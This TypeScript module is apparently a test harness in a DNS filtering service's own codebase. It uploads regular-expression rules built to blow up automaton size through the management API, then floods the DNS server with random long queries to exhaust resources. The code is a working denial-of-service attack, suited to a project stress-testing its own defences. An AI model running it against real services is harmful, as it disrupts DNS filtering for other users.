import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { queryFor } from '../../../src/dns/message.ts';
import { classes, types } from '../../../src/dns/numbers.ts';
import { writeMessage } from '../../../src/dns/write-message.ts';
import { wireName } from '../../../src/kit/wire-name.ts';
import { deviceOption } from '../dns/packets.ts';

export type ExpressionsTarget = {
  /** Of the management API. */
  readonly url: string;
  /** Of the attacking account, with one of its DNS servers and a device there. */
  readonly authorization: string;
  readonly server: string;
  readonly device: string;
  readonly dns: { readonly host: string; readonly port: number };
  readonly queriesPerSecond: number;
  /** The rules in order; stored until the service rejects one. */
  readonly rules: readonly string[];
};

/** Expressions whose automata grow without limit: their states record at which of the last letters a match may have begun. */
export const sameLetters = (count: number): readonly string[] =>
  Array.from({ length: count }, (_, nth) => `/example.*|(a|x)[abxyz.]{${40 + (nth % 960)}}(b|y).*example${nth}/`);

/** Expressions of 40 alternatives, each with letters that nearly every name has. */
export const manyAlternatives = (count: number): readonly string[] =>
  Array.from(
    { length: count },
    (_, nth) => `/${Array.from({ length: 40 }, (_, other) => `[abxyz]${other}${nth}.*e`).join('|')}|example.*q${nth}/`,
  );

/** Stores the rules and queries random long names until it is stopped; then removes the rules. */
export async function startExpressions(target: ExpressionsTarget) {
  const { url, authorization, server, device, dns } = target;
  const put = async (rules: readonly string[]): Promise<number> => {
    const response = await fetch(`${url}/oapi/v1/dns_servers/${server}/settings`, {
      method: 'PUT',
      headers: { authorization, 'content-type': 'application/json' },
      body: JSON.stringify({ user_rules_settings: { enabled: true, rules } }),
    });
    await response.text();
    return response.status;
  };
  let { rules } = target;
  for (let status = await put(rules); status !== 200; status = await put(rules)) {
    // 503: stored, but a busy machine has not compiled them in time.
    if (status === 503) continue;
    assert.equal(status, 400, 'rules are refused for nothing but being too many');
    rules = rules.slice(0, Math.floor(rules.length * 0.8));
    assert.ok(rules.length > 0);
  }

  const socket = createSocket('udp4');
  socket.bind(0);
  await once(socket, 'listening');
  let answered = 0;
  socket.on('message', () => {
    answered += 1;
  });
  let sent = 0;
  const ask = (): void => {
    sent += 1;
    const name = wireName(`${[63, 63, 63, 30].map(randomLabel).join('.')}.example`)!;
    const edns = { udpSize: 1232, version: 0, dnssecOk: false, options: [deviceOption(device)] };
    const query = queryFor({ name, type: types.A, class: classes.IN }, sent & 0xffff, edns);
    socket.send(writeMessage(query), dns.port, dns.host);
  };
  const timer = setInterval(ask, 1000 / target.queriesPerSecond);
  return {
    rules: rules.length,
    counts: () => ({ sent, answered }),
    stop: async (): Promise<void> => {
      clearInterval(timer);
      socket.close();
      assert.equal(await put([]), 200);
    },
  };
}

const LETTERS = 'abxyz';
const randomLabel = (length: number): string =>
  Array.from({ length }, () => LETTERS[Math.floor(Math.random() * LETTERS.length)]).join('');
